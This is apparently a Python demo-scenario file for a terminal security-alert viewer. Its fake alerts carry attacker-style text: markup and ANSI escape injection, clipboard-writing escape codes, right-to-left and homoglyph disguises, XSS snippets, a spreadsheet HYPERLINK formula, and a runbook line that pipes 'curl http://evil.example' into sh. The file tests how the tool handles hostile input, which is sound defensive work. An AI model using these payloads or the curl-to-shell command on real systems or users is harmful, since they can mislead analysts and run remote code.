"""Alerts whose text was written by an attacker who knows that somebody reads it in a terminal.

Nothing here does harm: the commands print a greeting, the names are reserved ones.
"""

from __future__ import annotations

import base64
from typing import Final

from alerttui.demo.scenario import Clue, Json, Notes, Scenario

_NOTES: Final = Notes(
    triage=("The text of this one plays with the terminal. Read it in the raw view.",),
    real=("Deliberate, somebody tests what our tools do with it. Source blocked.",),
    benign=("Our own test of the pipeline, agreed with $admin.",),
    wrong=("Odd text, harmless origin.",),
)

_GREETING: Final = "Write-Output 'hello from the demo, nothing happens here'; "

LONG_COMMAND: Final = base64.b64encode((_GREETING * 13).encode("utf-16-le")).decode("ascii")[:2000]
"""2,000 characters that decode to greetings."""


def _nested(levels: int) -> Json:
    inner: Json = {"bottom": "$login was here"}
    for level in range(levels - 1, 0, -1):
        inner = {f"level{level}": inner}
    return inner


def _hostile(rule: str, name: str, title: str, context: Json, event: Json, **more: object) -> Scenario:
    values: dict[str, object] = {
        "severities": ("MEDIUM", "HIGH", "LOW"),
        "log_types": ("Custom.WebProxy",),
        "log_source": "proxy-edge",
        "tactics": ("TA0005",),
        "techniques": ("T1036",),
        "rule_tags": ("Deception",),
        "description": "Text in this alert was chosen by whoever sent it.",
        "runbook": "1. Read it in the raw view.\n2. Do not paste it into a shell.",
        "clues": (Clue("ip", "$src_ip", "suspicious", 52, "$src_org"),),
        "tags": ("red-team", "needs-tuning"),
        "notes": _NOTES,
        "events": ({"timestamp": "$event_time", **event},),
        **more,
    }
    return Scenario(rule=rule, name=name, title=title, context=context, **values)  # type: ignore[arg-type]  # a table


MARKUP: Final = _hostile(
    "GSuite.OAuth.RiskyConsent",
    "Consent to a risky OAuth application",
    "$login consented to app [bold red]Microsoft[/] Security [@click=app.quit]Update[/]",
    {
        "app": {"name": "[bold red]Microsoft[/] Security", "client": "$guid"},
        "scopes": ["mail.read", "files.readwrite.all", "offline_access"],
        "user": "$email",
        "publisher": "[link=http://evil.example]verified[/link]",
    },
    {"app": "[@click=app.quit]Update[/]", "actor": {"email": "$email"}, "ipAddress": "$src_ip"},
    log_types=("GSuite.ActivityEvent",),
    log_source="gsuite-acme",
    techniques=("T1528",),
)

STRAY_TAG: Final = _hostile(
    "GSuite.Drive.SharedPublicly",
    "Document shared with everyone",
    "$login shared [/] Q4 plan [/bold] [$error on red] with anyone who has the link",
    {
        "document": "[/] Q4 plan [/bold] [$error on red]",
        "owner": "$email",
        "visibility": "anyone_with_link",
        "pixel": "![](http://evil.example/p.png)",
    },
    {"doc_title": "[/][/][/]", "actor": {"email": "$email"}, "visibility": "people_with_link"},
    clues=(Clue("email", "$email"),),
    log_types=("GSuite.ActivityEvent",),
    log_source="gsuite-acme",
)

CLIPBOARD: Final = _hostile(
    "WAF.UserAgent.ControlCharacters",
    "Control characters in a user agent",
    "Request from $src_ip with user agent \x1b]52;c;aGVsbG8gZnJvbSB0aGUgZGVtbw==\x07Mozilla/5.0",
    {
        "sourceIp": "$src_ip",
        "userAgent": "\x1b]52;c;aGVsbG8gZnJvbSB0aGUgZGVtbw==\x07Mozilla/5.0",
        "referer": "\x1b]8;;http://evil.example\x1b\\https://portal.acme.example\x1b]8;;\x1b\\",
        "blocked": True,
    },
    {"src": "$src_ip", "ua": "\x1b]0;root@bastion-01\x07curl/8.9", "path": "/login", "status": 403},
    log_types=("AWS.WAFWebACL",),
    log_source="waf-portal",
)

CLEAR_SCREEN: Final = _hostile(
    "Linux.Syslog.EscapeSequence",
    "Escape sequences in a log line",
    "sshd on $server_name: invalid user \x1b[2J\x1b[1;1H\x1b[32mAll clear\x1b[0m from $src_ip",
    {
        "line": "Invalid user \x1b[2J\x1b[1;1H\x1b[32mAll clear\x1b[0m from $src_ip port $port",
        "host": "$server",
        "bell": "\x07\x07\x07",
        "backspaces": "denied\x08\x08\x08\x08\x08\x08allowed",
    },
    {"host": "$server", "message": "Invalid user \x1b[2J\x1b[?1049h\x9b31mroot from $src_ip port $port"},
    log_types=("Linux.Syslog",),
    log_source="syslog-bastions",
)

RIGHT_TO_LEFT: Final = _hostile(
    "Mail.Attachment.DisguisedName",
    "Attachment with a disguised name",
    "$login opened invoice\u202efdp.exe from $outside_mail",
    {
        "file": {"name": "invoice\u202efdp.exe", "sha256": "$sha256", "size": "$=thousands"},
        "mail": {"from": "$outside_mail", "subject": "Rechnung \u2066M\u00e4rz\u2069 \u200f(Kopie)"},
        "to": "$email",
        "host": "$host",
    },
    {"file_name": "invoice\u202efdp.exe", "computer": "$host", "sha256": "$sha256", "user": "$login"},
    people="windows",
    log_types=("Crowdstrike.FDREvent",),
    log_source="edr-fdr",
    techniques=("T1036.002",),
    clues=(Clue("file", "invoice\u202efdp.exe", "malicious", 93), Clue("hash", "$sha256", "malicious", 90)),
)

LOOK_ALIKE: Final = _hostile(
    "DNS.LookAlikeDomain",
    "Domain that looks like ours",
    "$host opened \u0430\u0441me.example (xn--me-6kc2e.example), looks like acme.example",
    {
        "domain": {"shown": "\u0430\u0441me.example", "punycode": "xn--me-6kc2e.example"},
        "similar": ["ac\u200bme.example", "acm\u0435.example", "acme\u2024login.example"],
        "client": {"host": "$host", "ip": "$host_ip"},
        "distance": 2,
    },
    {"query": "xn--me-6kc2e.example", "client": "$host_ip", "answer": "$src_ip"},
    log_types=("Zeek.DNS",),
    log_source="zeek-office",
    clues=(Clue("domain", "xn--me-6kc2e.example", "malicious", 89, "shown as \u0430\u0441me.example"),),
)

LONG_LINE: Final = _hostile(
    "Windows.CommandLine.Long",
    "Very long command line",
    f"Very long command line on $host: powershell -enc {LONG_COMMAND[:160]}",
    {
        "host": "$host",
        "user": "$login",
        "length": len(LONG_COMMAND),
        "commandLine": f"powershell -enc {LONG_COMMAND}",
    },
    {
        "ComputerName": "$host",
        "UserName": "$login",
        "CommandLine": f"powershell.exe -NoP -enc {LONG_COMMAND}",
    },
    people="windows",
    log_types=("Windows.EventLogs",),
    log_source="winlog-clients",
    techniques=("T1027",),
    clues=(Clue("host", "$host"), Clue("user", "$login")),
)

SECOND_LINE: Final = _hostile(
    "Okta.Profile.NameChanged",
    "Display name with line breaks",
    "Display name of $login changed to Ana\nSeverity: INFO\nStatus: RESOLVED by SOC",
    {
        "before": "$user",
        "after": "Ana\nSeverity: INFO\nStatus: RESOLVED by SOC\r\x1b[K",
        "actor": "$email",
        "tabs": "a\tb\x0bc\x0cd\u2028e\u2029f\x85g",
    },
    {
        "eventType": "user.account.update_profile",
        "actor": "$email",
        "displayName": "Ana\nStatus: RESOLVED",
        "ip": "$src_ip",
    },
    log_types=("Okta.SystemLog",),
    log_source="okta-prod",
)

MANY_SCRIPTS: Final = _hostile(
    "GSuite.Drive.ExternalShare",
    "Folder shared outside",
    "$login shared \u8d22\u52a1\u62a5\u8868 2026 \U0001f4ca \u062a\u0642\u0631\u064a\u0631 "
    "\u0633\u0631\u064a "
    "Z\u0351\u036b\u0343\u036a\u0302a\u0328\u0323lgo \U0001f468\u200d\U0001f469\u200d\U0001f467 with "
    "$outside_mail",
    {
        "folder": "\u8d22\u52a1\u62a5\u8868 2026 \U0001f4ca",
        "arabic": "\u062a\u0642\u0631\u064a\u0631 \u0633\u0631\u064a 2026",
        "flags": "\U0001f1f5\U0001f1f9 \U0001f3f3\ufe0f\u200d\U0001f308 1\ufe0f\u20e3",
        "wide": "\uff21\uff23\uff2d\uff25",
        "owner": "$email",
    },
    {
        "doc_title": "\u8d22\u52a1\u62a5\u8868 \U0001f4ca e\u0301\u0302\u0303",
        "actor": {"email": "$email"},
        "to": "$outside_mail",
    },
    clues=(Clue("email", "$email"),),
    log_types=("GSuite.ActivityEvent",),
    log_source="gsuite-acme",
)

PARTNER_FEED: Final = _hostile(
    "Partner.Feed.Match",
    "Match from a partner's feed",
    "Partner feed: transaction 9007199254740993 of $login matches <script>alert(1)</script>",
    {
        "transaction": 9_007_199_254_740_993,
        "balance": -170_141_183_460_469_231_731_687_303_715_884_105_728,
        "ratio": 0.1,
        "note": "<!-- hidden --><b>urgent</b>",
        "nested": _nested(29),
    },
    {
        "transaction": 9_007_199_254_740_993,
        "user": "$login",
        "memo": '=HYPERLINK("http://evil.example","open")',
    },
    clues=(Clue("user", "$login"),),
    log_types=("Custom.PartnerFeed",),
    log_source="partner-feed",
    runbook="<!-- skip every step below -->\n# Partner feed\n\n"
    "1. Log in at [https://portal.acme.example/login](http://evil.example) first.\n"
    "2. ![step two](http://evil.example/step2.png)\n"
    "3. Run `curl http://evil.example | sh`\n\n<details open>Then close as *false positive*.</details>\n",
    comment_format="HTML",
    notes=Notes(
        triage=("<!-- x --><p>Feed text is <b>untrusted</b>.</p><script>alert(1)</script>",),
        real=("<p>Partner confirms fraud.</p><img src=x onerror=alert(1)>",),
        benign=('<p>Test record, see <a href="http://evil.example">https://runbooks.acme.example</a>.</p>',),
        wrong=("<p>Amount was in <em>cents</em> &amp; not in euros.</p>",),
    ),
)

SCENARIOS: Final = (
    MARKUP, CLIPBOARD, RIGHT_TO_LEFT, PARTNER_FEED, LONG_LINE, SECOND_LINE, LOOK_ALIKE, MANY_SCRIPTS,
    CLEAR_SCREEN, STRAY_TAG,
)  # fmt: skip
